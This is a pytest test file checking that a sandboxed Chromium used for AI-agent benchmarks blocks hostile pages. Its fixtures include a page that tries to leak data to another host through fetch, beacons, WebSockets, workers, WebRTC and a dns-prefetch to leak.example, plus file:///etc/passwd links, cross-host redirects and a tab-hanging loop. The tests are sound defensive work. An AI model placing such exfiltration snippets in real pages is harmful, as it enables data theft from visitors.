"""The real browser on real pages: what agents see and do, and what hostile pages and actions cannot do.

Skipped, with the reason, where there is no Chromium or no playwright.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from agentflan.benchmarks._browser import BrowserDied, Limits, PageFailed, Visit, find_chromium, shared, visit
from agentflan.benchmarks._gate import address_of
from agentflan.benchmarks._web_actions import parse_action
from agentflan.benchmarks._web_hosts import Hosts
from agentflan.benchmarks._web_login import logged_in
from agentflan.errors import NotAvailable

PATIENT = Limits(action=60.0, settle=0.0)
SHORT = Limits(action=10.0, settle=0.0)


@pytest.fixture(scope="module", autouse=True)
def _browser() -> None:
    try:
        find_chromium()
    except NotAvailable as missing:
        pytest.skip(str(missing))


class Site(ThreadingHTTPServer):
    """Pages by path; `heard` are the paths that were asked for, with what was sent along."""

    daemon_threads = True

    def __init__(self, pages: dict[str, str]) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.pages, self.heard = pages, []
        self.url = f"http://127.0.0.1:{self.server_port}"


class _Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        self.server.heard.append(self.path)
        page = self.server.pages.get(path)
        if path == "/private" and "user=anna" not in self.headers.get("Cookie", ""):
            page = None
        self._send(404 if page is None else 200, page or "nothing here")

    def do_POST(self) -> None:
        sent = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.server.heard.append(sent)
        good = sent == "who=anna&word=canary"
        self._send(200, "welcome" if good else LOGIN, {"Set-Cookie": "user=anna"} if good else {})

    def _send(self, status: int, page: str, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        for name, value in ({"Content-Type": "text/html", "Content-Length": str(len(page))} | (headers or {})).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(page.encode())

    def log_message(self, *arguments: object) -> None:
        pass


LOGIN = (
    "<title>Login</title><form method=post><input name=who><input type=password name=word><button>Go</button></form>"
)
HOME = (
    "<title>Home</title><h1>Hello</h1><a href='/rain'>Rain</a> <a href='/rain' target=_blank>Rain beside</a>"
    "<form action='/found'><input type=search name=q aria-label=Search></form>"
    "<button onclick='document.title = `Pressed`'>Press</button><p style='margin-top:3000px'>Far below</p>"
)
RAIN = "<title>Rain</title><p>4 mm</p>"


@contextmanager
def site(**pages: str) -> Iterator[Site]:
    """A site with pages by name, `home` is its first one."""
    paths = {"/" if name == "home" else f"/{name}": page for name, page in pages.items()}
    with Site(paths) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield server
        server.shutdown()


@contextmanager
def window(server: Site, path: str = "/", limits: Limits = PATIENT) -> Iterator[Visit]:
    """A window that may reach the site, with one of its pages."""
    with visit("", [address_of(server.url)], limits) as opened:
        opened.open(server.url + path)
        yield opened


def act(opened: Visit, text: str) -> None:
    """Do an action; `{name}` stands for the id of the element with this role and name."""
    elements = opened.observe().elements
    ids = {element.text: number for number, element in elements.items()}
    for name, number in ids.items():
        text = text.replace(f"<{name}>", str(number))
    action = parse_action(text)
    opened.act(action, elements.get(action.element))


# ---- what agents do --------------------------------------------------------------------------------------------------


def test_an_agent_sees_the_tree_and_acts_on_it() -> None:
    with site(home=HOME, rain=RAIN, found="<title>Found</title>") as server, window(server) as opened:
        first = opened.observe().text
        assert first.startswith("Tab 0 (current): Home\n\n[1] RootWebArea 'Home'")
        assert "link 'Rain'" in first and "Far below" not in first

        act(opened, "click [<button 'Press'>]")
        assert "RootWebArea 'Pressed'" in opened.observe().text
        act(opened, "scroll [down]")
        act(opened, "press [End]")
        assert "Far below" in opened.observe().text
        act(opened, "press [Home]")
        act(opened, "type [<searchbox 'Search'>] [red pot] [1]")
        assert server.heard[-1] == "/found?q=red+pot"
        act(opened, "go_back")
        act(opened, "click [<link 'Rain'>]")
        assert opened.observe().text.endswith("StaticText '4 mm'")
        assert opened.url == f"{server.url}/rain"


def test_tabs_are_opened_chosen_and_closed() -> None:
    with site(home=HOME, rain=RAIN) as server, window(server) as opened:
        act(opened, "click [<link 'Rain beside'>]")
        assert opened.observe().text.startswith("Tab 0 (current): Home | Tab 1: Rain")
        act(opened, "tab_focus [1]")
        assert opened.url.endswith("/rain")
        act(opened, "new_tab")
        act(opened, f"goto [{server.url}/]")
        assert opened.observe().text.startswith("Tab 0: Home | Tab 1: Rain | Tab 2 (current): Home")
        for _ in range(3):
            act(opened, "close_tab")
        assert opened.observe().text.startswith("Tab 0 (current): ")
        with pytest.raises(PageFailed, match="no such tab"):
            act(opened, "tab_focus [7]")


def test_the_same_page_is_the_same_text() -> None:
    texts = []
    for _ in range(2):
        with site(home=HOME) as server, window(server) as opened:
            texts.append(opened.observe().text)
    assert texts[0] == texts[1]


def test_windows_share_no_cookies() -> None:
    page = "<title>x</title><script>document.title = document.cookie || 'none'; document.cookie = 'a=1'</script>"
    with site(home=page) as server:
        for _ in range(2):
            with window(server) as opened:
                assert "(current): none" in opened.observe().text


# ---- logging in ------------------------------------------------------------------------------------------------------


def hosts(server: Site, word: str) -> Hosts:
    return Hosts({"reddit": server.url}, {"reddit": ("anna", word)})


def test_episodes_begin_logged_in() -> None:
    with site(login=LOGIN, private="<title>Private</title>") as server:
        cookies = logged_in(hosts(server, "canary"), ("reddit",), "", PATIENT)
        again = logged_in(hosts(server, "canary"), ("reddit",), "", PATIENT)
        with visit("", [address_of(server.url)], PATIENT, cookies) as opened:
            opened.open(f"{server.url}/private")
            assert "Private" in opened.observe().text

    assert again is cookies
    assert server.heard.count("who=anna&word=canary") == 1
    assert logged_in(Hosts({}), (), "", PATIENT) is None


@pytest.mark.parametrize(
    ("pages", "message"), [({"login": LOGIN}, "does not take the account"), ({}, "asks for no password")]
)
def test_an_account_that_is_not_taken_is_told_without_it(pages: dict[str, str], message: str) -> None:
    with site(**pages) as server, pytest.raises(NotAvailable, match=f"no login to reddit: .*{message}") as caught:
        logged_in(hosts(server, "wrong canary"), ("reddit",), "", PATIENT)
    assert "canary" not in str(caught.value)


# ---- hostile pages and actions ---------------------------------------------------------------------------------------

LEAKS = """<title>Leaks</title><img src='{other}/image'><link rel=stylesheet href='{other}/style'>
<link rel=dns-prefetch href='//leak.example'><link rel=preconnect href='{other}'><iframe src='{other}/frame'></iframe>
<script>
    fetch('{other}/fetch', {{mode: 'no-cors'}}); navigator.sendBeacon('{other}/beacon', 'x');
    new WebSocket('{other}/socket'.replace('http', 'ws')); new EventSource('{other}/events');
    new Worker(URL.createObjectURL(new Blob(["fetch('{other}/worker', {{mode: 'no-cors'}})"])));
    const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}});
    peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
</script>"""


def test_nothing_leaves_but_to_the_allowed_hosts() -> None:
    with site() as other, site(home="") as server:
        server.pages["/"] = LEAKS.format(other=other.url, port=other.server_port)
        with window(server) as opened:
            opened.evaluate("new Promise(done => setTimeout(done, 1000))")
            for url in (f"{other.url}/goto", "http://example.com/", "https://example.com/"):
                try:
                    act(opened, f"goto [{url}]")
                except PageFailed:
                    continue
            refused = " ".join(opened.refused)

    assert other.heard == []
    for name in ("image", "fetch", "frame", "worker", "beacon", "goto"):
        assert f"/{name}" in refused
    assert "example.com" in refused


def test_a_redirect_to_another_host_is_refused() -> None:
    with site() as other, site(home=f"<script>location = '{other.url}/secret'</script>") as server:
        with window(server) as opened:
            opened.observe()
            assert any("/secret" in url for url in opened.refused)
        assert other.heard == []


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "chrome://version", "javascript:alert(1)", "data:text/html,x", "view-source:http://x"]
)
def test_only_web_addresses_are_opened(url: str) -> None:
    with site(home=HOME) as server, window(server) as opened:
        with pytest.raises(PageFailed, match="not a web address"):
            act(opened, f"goto [{url}]")
        assert opened.url == f"{server.url}/"


def test_a_page_cannot_open_files_of_the_host() -> None:
    page = "<title>Files</title><a href='file:///etc/passwd'>passwd</a><iframe src='file:///etc/passwd'></iframe>"
    with site(home=page) as server, window(server) as opened:
        act(opened, "click [<link 'passwd'>]")
        assert "root:" not in opened.observe().text
        assert opened.url == f"{server.url}/"


def test_dialogs_do_not_stop_the_agent() -> None:
    page = "<title>Talk</title><script>alert(1); confirm(2); prompt(3); onbeforeunload = () => 'stay'</script>"
    with site(home=page, rain=RAIN) as server, window(server) as opened:
        act(opened, f"goto [{server.url}/rain]")
        assert "4 mm" in opened.observe().text


def test_a_page_that_hangs_is_replaced_by_an_empty_one() -> None:
    page = "<title>Busy</title><button onclick='for (;;) {}'>Hang</button>"
    with site(home=page, rain=RAIN) as server, window(server, limits=SHORT) as opened:
        with pytest.raises(PageFailed, match="no answer in time"):
            act(opened, "click [<button 'Hang'>]")
            opened.evaluate("1")
        opened.observe()
        opened.open(f"{server.url}/rain")
        assert "4 mm" in opened.observe().text


def test_the_agent_opens_ten_tabs_at_most() -> None:
    with site(home=HOME) as server, window(server) as opened:
        for _ in range(9):
            act(opened, "new_tab")
        with pytest.raises(PageFailed, match="more than 10 tabs"):
            act(opened, "new_tab")


def test_keys_that_there_are_not_fail() -> None:
    with site(home=HOME) as server, window(server) as opened, pytest.raises(PageFailed, match="Unknown key"):
        act(opened, "press [Nothing]")


def test_a_browser_that_died_is_told_and_another_one_started_without_our_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-canary")
    with site(home=HOME) as server:
        with pytest.raises(BrowserDied, match="the browser ended"), window(server) as opened:
            shared().wait(shared()._browser.close(), 60)
            opened.observe()
        with window(server) as opened:
            assert "Hello" in opened.observe().text
            started = [path for path in Path("/proc").glob("[0-9]*") if _is_chromium(path)]
            assert started
            assert not any(b"sk-canary" in (path / "environ").read_bytes() for path in started)


def _is_chromium(process: Path) -> bool:
    """Whether a process is a Chromium that this test's own processes started, and can be looked at."""
    with suppress(OSError):
        words = (process / "cmdline").read_bytes()
        return b"chrom" in words and b"playwright" in words and bool((process / "environ").read_bytes())
    return False
